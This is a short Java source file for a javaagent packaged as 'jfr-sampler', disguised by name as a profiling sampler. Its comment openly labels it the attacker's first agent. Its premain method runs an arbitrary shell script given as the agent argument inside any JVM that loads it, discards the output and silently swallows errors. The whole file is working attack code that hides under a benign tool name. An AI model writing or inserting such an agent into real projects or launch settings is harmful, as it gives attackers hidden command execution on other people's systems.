package jfrsampler;

/** The attacker's first agent (-javaagent:jfr-sampler.jar=SCRIPT): runs SCRIPT with /bin/sh in the JVM that loads it. */
public class Agent {
    public static void premain(String arg) {
        try {
            new ProcessBuilder("/bin/sh", arg).redirectErrorStream(true).redirectOutput(new java.io.File("/dev/null")).start().waitFor();
        } catch (Exception e) { }
    }
}
